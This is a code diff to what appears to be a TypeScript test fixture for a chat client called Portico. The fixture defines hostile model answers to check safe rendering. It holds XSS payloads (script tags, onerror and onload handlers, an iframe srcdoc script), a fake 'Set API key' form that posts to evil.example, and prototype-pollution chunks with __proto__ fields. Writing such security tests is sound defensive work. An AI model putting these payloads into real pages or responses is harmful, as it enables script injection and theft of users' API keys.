@@ -1,6 +1,7 @@
 // Answers and errors that attack: markup, links, control characters, and the key sent back.
 import { dataEvent } from '../forms/chat';
 import type { Exchange } from '../exchange';
+import { tokens } from '../question';
 import {
   beginPartial,
   deltaQuirk,
@@ -14,7 +15,7 @@ import {
 } from './fault';
 
 /** Nothing of this may run, load or be taken for Portico's own. */
-export const hostileMarkdown = `<script>window.pwned = 1</script>
+const hostileMarkdown = `<script>window.pwned = 1</script>
 <img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg>
 <iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><style>* { display: none }</style>
 <form action="https://evil.example"><button>Set API key</button></form>
@@ -78,8 +79,8 @@ const markup: readonly Fault[] = [
   deltaQuirk({
     id: 'fault-prototype',
     about: 'Chunks hold fields named __proto__ and constructor.',
-    deltas: deltasOf(goodText).map((delta) => ({
-      ...delta,
+    deltas: tokens(goodText).map((content) => ({
+      content,
       ['__proto__']: { polluted: true },
       constructor: null,
     })),
